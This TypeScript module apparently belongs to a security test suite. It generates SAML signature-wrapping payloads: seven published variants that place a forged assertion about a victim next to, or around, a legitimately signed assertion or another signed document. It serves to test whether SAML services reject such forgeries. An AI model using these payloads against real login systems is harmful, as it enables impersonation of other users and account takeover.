import { assertionXml, type SamlAssertion } from './assertion.ts';
import { newId, signXml, type XmlSigner } from './sign.ts';

/** What an attacker has: an assertion that the provider signed, and another one that nobody signed. */
interface WrappingParts {
  /** The signed assertion, complete. */
  readonly signed: string;
  /** The same without its signature. */
  readonly original: string;
  readonly signature: string;
  /** The assertion of the attacker. */
  readonly forged: string;
  /** The same, with the ID of the signed one. */
  readonly namesake: string;
  /** Another document that the provider signed, and its signature. */
  readonly foreign: ForeignDocument;
}

/** A document that is no assertion, and its signature. */
interface ForeignDocument {
  readonly document: string;
  readonly signature: string;
}

/** A published way of hiding behind the signature of another element ("On Breaking SAML", USENIX Security 2012). */
export interface SignatureWrapping {
  readonly name: string;
  compose(parts: WrappingParts): string;
}

/** Every way that feature files can name. */
export const signatureWrappings: readonly SignatureWrapping[] = [
  {
    name: 'the signed assertion at the end of a forged one',
    compose: ({ signed, forged }) => atEnd(forged, signed),
  },
  {
    name: 'its signature in a forged assertion, and the signed one at the end',
    compose: ({ original, signature, forged }) => atEnd(afterIssuer(forged, signature), original),
  },
  {
    name: 'its signature in a forged assertion, and the signed one as its Object',
    compose: ({ original, signature, forged }) => afterIssuer(forged, withObject(signature, original)),
  },
  {
    name: 'the signed assertion with the ID of a forged one around it',
    compose: ({ original, signature, namesake }) => atEnd(afterIssuer(namesake, signature), original),
  },
  {
    name: 'the signed assertion as the Advice of a forged one',
    compose: ({ signed, forged }) =>
      forged.replace('</saml:Conditions>', `</saml:Conditions><saml:Advice>${signed}</saml:Advice>`),
  },
  {
    name: 'the signed assertion in the SubjectConfirmationData of a forged one',
    compose: ({ original, signature, forged }) =>
      afterIssuer(forged, signature).replace(
        /(<saml:SubjectConfirmationData[^>]*)\/>/,
        `$1>${original}</saml:SubjectConfirmationData>`,
      ),
  },
  {
    name: 'the signature of another document of its issuer',
    compose: ({ forged, foreign }) => afterIssuer(forged, withObject(foreign.signature, foreign.document)),
  },
];

/** An assertion about `victim` that hides behind a signed one about somebody else. */
export async function wrapped(
  { compose }: SignatureWrapping,
  assertion: SamlAssertion,
  victim: string,
  signer: XmlSigner,
  now: number,
): Promise<string> {
  const id = newId();
  const original = assertionXml(assertion, id, now);
  const signed = await signXml(original, id, signer);
  const evil = { ...assertion, subject: { ...subjectOf(assertion), nameId: victim } };
  return compose({
    signed,
    original,
    signature: signatureIn(signed),
    forged: assertionXml(evil, newId(), now),
    namesake: assertionXml(evil, id, now),
    foreign: await foreignDocument(signer),
  });
}

/** A signature of the provider over something that is no assertion. */
export async function foreignDocument(signer: XmlSigner): Promise<ForeignDocument> {
  const id = newId();
  const document = `<assay:Notice xmlns:assay="https://assay.example/notice" ID="${id}">Closed on Sunday</assay:Notice>`;
  return { document, signature: signatureIn(await signXml(document, id, signer)) };
}

function subjectOf({ subject }: SamlAssertion): NonNullable<SamlAssertion['subject']> {
  if (subject !== undefined) return subject;
  throw new TypeError('an assertion without Subject cannot be forged');
}

/** The first signature of a text. */
export function signatureIn(xml: string): string {
  return /<ds:Signature .*?<\/ds:Signature>/s.exec(xml)?.[0] ?? '';
}

function atEnd(assertion: string, content: string): string {
  return assertion.replace(/<\/saml:Assertion>$/, () => `${content}</saml:Assertion>`);
}

function afterIssuer(assertion: string, signature: string): string {
  return assertion.replace('</saml:Issuer>', () => `</saml:Issuer>${signature}`);
}

function withObject(signature: string, content: string): string {
  return signature.replace(/<\/ds:Signature>$/, () => `<ds:Object>${content}</ds:Object></ds:Signature>`);
}
